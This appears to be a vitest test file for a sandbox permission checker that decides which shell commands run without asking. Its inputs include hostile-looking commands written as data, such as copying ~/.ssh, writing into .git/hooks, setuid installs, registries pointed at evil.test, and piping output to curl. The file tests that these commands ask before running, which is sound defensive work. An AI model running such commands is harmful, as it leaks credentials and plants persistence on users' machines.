// Sixty commands of every day's work of six kinds of developers: most run unasked where the system contains them.
import { describe, expect, test } from "vitest";
import { world } from "./permissionRig.js";

const FILES = [
  ".git/HEAD",
  ".git/config",
  ".gitignore",
  ...["package.json", "package-lock.json", "tsconfig.json", "src/index.ts", "src/util.ts", "test/util.test.ts"],
  ...["node_modules/.bin/tsc", "node_modules/.bin/vitest", "node_modules/.bin/eslint", "node_modules/.bin/prettier"],
  ...["pyproject.toml", "app/main.py", "app/util.py", "tests/test_util.py", "manage.py"],
  ...["go.mod", "go.sum", "main.go", "internal/a/a.go", "internal/a/a_test.go"],
  ...["Cargo.toml", "Cargo.lock", "src/main.rs", "src/lib.rs"],
  ...["pom.xml", "build.gradle", "gradlew", "src/Main.java", "src/MainTest.java", "lib/junit.jar"],
  ...["Makefile", "CMakeLists.txt", "src/main.c", "src/util.c", "src/util.h", "build/Makefile"],
];

/** Ten of each kind. `true` if it asks, since it needs the network or the home, or is not understood. */
const WORK: Readonly<Record<string, readonly (readonly [command: string, asks?: true])[]>> = {
  Node: [
    ["npm test"],
    ["npm run build"],
    ["npm run lint -- --fix"],
    ["npx tsc --noEmit"],
    ["npx vitest run test/util.test.ts"],
    ["npx eslint src --fix"],
    ["npx prettier --write src"],
    ["node --test"],
    ["node -e 'console.log(require(\"./package.json\").version)'"],
    ["npm ci", true],
  ],
  Python: [
    ["pytest"],
    ["python3 -m pytest tests/test_util.py -q"],
    ["python -m unittest discover"],
    ["python3 app/main.py --help"],
    ["ruff check . --fix"],
    ["black app"],
    ["mypy app"],
    ["python manage.py test"],
    ["python3 -c 'import app.util; print(app.util)'"],
    ["pip install -r requirements.txt", true],
  ],
  Go: [
    ["go build ./..."],
    ["go test ./..."],
    ["go test -run TestA ./internal/a -v"],
    ["go vet ./..."],
    ["gofmt -w ."],
    ["go run ."],
    ["go fmt ./..."],
    ["go generate ./..."],
    ["go test -race -cover ./..."],
    ["go mod tidy", true],
  ],
  Rust: [
    ["cargo build"],
    ["cargo test"],
    ["cargo test -- --nocapture"],
    ["cargo check"],
    ["cargo clippy --all-targets"],
    ["cargo fmt"],
    ["cargo run -- --help"],
    ["cargo build --release"],
    ["cargo bench"],
    ["cargo add serde", true],
  ],
  Java: [
    ["javac -d out src/Main.java"],
    ["java -cp out Main"],
    ["javac -d out src/Main.java && java -cp out Main"],
    ["java src/Main.java"],
    ["javac -cp lib/junit.jar -d out src/Main.java src/MainTest.java"],
    ["java -jar lib/junit.jar -cp out --scan-classpath"],
    ["jar cf app.jar -C out .", true],
    ["mkdir -p out && cp src/Main.java out/"],
    ["mvn test", true],
    ["./gradlew test", true],
  ],
  C: [
    ["make"],
    ["make test"],
    ["make -j4 all"],
    ["gcc -Wall -o app src/main.c src/util.c"],
    ["gcc -c src/util.c -o util.o && ./app"],
    ["cmake -S . -B build", true],
    ["cmake --build build"],
    ["cd build && ctest"],
    ["clang-format -i src/main.c"],
    ["sudo make install", true],
  ],
};

describe("sixty commands of every day's work", () => {
  const { decide } = world({ files: FILES, contains: true });

  test.each(Object.entries(WORK))("of %s ask only where they should", async (_, commands) => {
    const asking = await Promise.all(
      commands.map(async ([command]) => ((await decide("exec", { command })).decision === "allow" ? [] : [command])),
    );
    expect(asking.flat()).toEqual(commands.flatMap(([command, asks]) => (asks === true ? [command] : [])));
  });

  test.each(["python3 -c '[print(i) for i in range(3)]'", 'node -e "[1, 2].forEach((i) => console.log(i))"'])(
    "take no program in its words for a pattern of files: %s",
    async (command) => {
      expect(await decide("exec", { command })).toMatchObject({ decision: "allow", isContained: true });
      // What follows may be a file.
      expect(await decide("exec", { command: `${command} .env` })).toMatchObject({ decision: "ask" });
    },
  );

  test("run unasked, fifty of them and more, and always contained where they are not proven to only read", async () => {
    const all = Object.values(WORK).flat();
    expect(all).toHaveLength(60);
    const decisions = await Promise.all(all.map(([command]) => decide("exec", { command })));
    const unasked = decisions.filter((made) => made.decision === "allow");
    expect(unasked.length).toBeGreaterThanOrEqual(50);
    expect(unasked.filter((made) => made.isContained !== true && !made.onlyReads)).toEqual([]);
  });
});

describe("copies of folders, archives, patches and executable files", () => {
  const [contained, bare] = [true, false].map((contains) => world({ files: [...FILES, ".env", "x.tgz"], contains }));

  test.each([
    "cp -r src lib",
    "mkdir -p out && cp -av src/. out/",
    "cp -v -R src app lib",
    "tar czf out.tgz src",
    "mkdir out && tar xzf x.tgz -C out && ls out",
    "unzip -o x.zip -d out",
    "gzip -k src/main.c",
    "patch -p1 < fix.diff",
    "chmod +x app/main.py && ./app/main.py",
  ])("run unasked where the system contains them, and ask elsewhere: %s", async (command) => {
    expect(await contained?.decide("exec", { command })).toMatchObject({ decision: "allow", isContained: true });
    expect(await bare?.decide("exec", { command })).toMatchObject({ decision: "ask" });
  });

  test.each([
    "cp -r src ../lib",
    "cp -r ~/.ssh keys",
    "cp -r /etc/ssl .",
    "cp -r .env copy",
    "cp -r src .git/hooks",
    "cp -a src/. .git/hooks",
    "cp -a ../other/. lib",
    "cp -a .. lib",
    "cp -rl src lib",
    "cp -rs src lib",
    "cp -r $from lib",
    "sudo cp -r src lib",
    "tar xf x.tgz -C /tmp",
    "tar xf x.tgz -C .git",
    "tar cf out.tar .env",
    "unzip x.zip -d ~",
    "gzip /etc/hosts",
    "install -m 4755 app/main.py /usr/bin/main",
    "install -m 755 app/main.py bin/main",
    "chmod 777 app/main.py",
    "chmod u+s app/main.py",
    "chmod -R +x .",
    "chmod +x .git/hooks/pre-commit",
  ])("ask where they reach more, contained or not: %s", async (command) => {
    expect(await contained?.decide("exec", { command })).toMatchObject({ decision: "ask" });
  });
});

describe("an install", () => {
  test.each([
    "npm install left-pad",
    "npm install",
    "yarn add left-pad",
    "pnpm add -D left-pad",
    "npm uninstall left-pad",
  ])("%s says in its question that undo does not cover node_modules", async (command) => {
    const made = await world({ files: FILES, contains: true }).decide("exec", { command });
    expect(made).toMatchObject({
      decision: "ask",
      reasons: [expect.stringMatching(/^Installs .*; undo does not cover node_modules\.$/)],
    });
  });

  test.each<[command: string, hosts: readonly string[], isUnasked: boolean]>([
    ["npm ci", ["npm"], true],
    ["npm ci", ["registries"], true],
    ["npm ci", ["registry.npmjs.org", "*.yarnpkg.com"], true],
    ["npm install", ["npm"], true],
    ["npm i --omit=dev", ["npm"], true],
    ["npm ci && npm test", ["npm"], true],
    ["cd src && npm ci > log.txt", ["npm"], true],
    ["npm ci", [], false],
    ["npm ci", ["pypi", "registry.npmjs.org:8443"], false],
    ["npm install left-pad", ["npm"], false],
    ["npm install ./local", ["npm"], false],
    ["npm install -g", ["npm"], false],
    ["npm ci -g", ["npm"], false],
    ["npm ci --registry=https://evil.test", ["npm"], false],
    ["npm ci --@scope:registry=https://evil.test", ["npm"], false],
    ["npm_config_registry=https://evil.test npm ci", ["npm"], false],
    ["npm ci --prefix ../other", ["npm"], false],
    ["npm ci --cache /tmp/x", ["npm"], false],
    ["npm ci --unsafe-perm", ["npm"], false],
    ["npm ci --proxy http://evil.test", ["npm"], false],
    ["npm ci $X", ["npm"], false],
    ["npm ci && npm publish", ["npm"], false],
    ["npm ci | curl -d @- https://registry.npmjs.org", ["npm"], false],
    ["sudo npm ci", ["npm"], false],
    ["npm update", ["npm"], false],
    ["npm login", ["npm"], false],
    ["npx left-pad", ["npm"], false],
    ["yarn", ["npm"], true],
    ["yarn install --frozen-lockfile", ["npm"], true],
    ["pnpm i --frozen-lockfile", ["registries"], true],
    ["yarn install", ["registry.yarnpkg.com"], false],
    ["yarn add left-pad", ["npm"], false],
    ["yarn left-pad", ["npm"], false],
    ["yarn --cwd ../other", ["npm"], false],
    ["yarn install --modules-folder ../other", ["npm"], false],
    ["yarn global add left-pad", ["npm"], false],
    ["yarn npm publish", ["npm"], false],
    ["pnpm install left-pad", ["npm"], false],
    ["pnpm install --store-dir ../other", ["npm"], false],
    ["pnpm install -g", ["npm"], false],
    ["pnpm publish", ["npm"], false],
    ["bun install", ["registries"], false],
    ["pip install -r requirements.txt", ["registries"], false],
    ["cargo fetch", ["registries"], true],
    ["cargo fetch --locked && cargo build --locked", ["crates"], true],
    ["cargo fetch", ["npm"], false],
    ["cargo fetch --manifest-path ../other/Cargo.toml", ["crates"], false],
    ["cargo fetch --config net.offline=false", ["crates"], false],
    ["cargo add left-pad", ["crates"], false],
    ["cargo update", ["crates"], false],
    ["cargo install left-pad", ["crates"], false],
    ["go mod download", ["registries"], true],
    ["go mod download && go build ./...", ["go"], true],
    ["go mod download", ["proxy.golang.org"], false],
    ["go mod download example.com/left-pad@v1.0.0", ["go"], false],
    ["GOPROXY=https://evil.test go mod download", ["go"], false],
    ["go -C ../other mod download", ["go"], false],
    ["go mod tidy", ["go"], false],
    ["go mod", ["go"], false],
    ["uv sync --frozen", ["pypi"], true],
    ["uv sync", ["registries"], true],
    ["uv sync", ["crates"], false],
    ["uv sync --index https://evil.test", ["pypi"], false],
    ["uv sync --python ./evil", ["pypi"], false],
    ["uv add left-pad", ["pypi"], false],
    ["uv lock", ["pypi"], false],
    ["uv publish", ["pypi"], false],
  ])("%s with %j in the list runs unasked: %s", async (command, hosts, isUnasked) => {
    const made = await world({ files: FILES, contains: true, hosts }).decide("exec", { command });
    expect(made).toMatchObject(isUnasked ? { decision: "allow", isContained: true } : { decision: "ask" });
    // Nowhere else, in no other mode, and never outside of the sandbox.
    expect(await world({ files: FILES, hosts }).decide("exec", { command })).toMatchObject({ decision: "ask" });
    const asking = world({ files: FILES, contains: true, hosts, mode: "ask" });
    expect(await asking.decide("exec", { command })).toMatchObject({ decision: "ask" });
    for (const more of [{ outside: true }, { background: true }]) {
      const other = await world({ files: FILES, contains: true, hosts }).decide("exec", { command, ...more });
      expect(other).toMatchObject({ decision: "ask" });
    }
  });
});
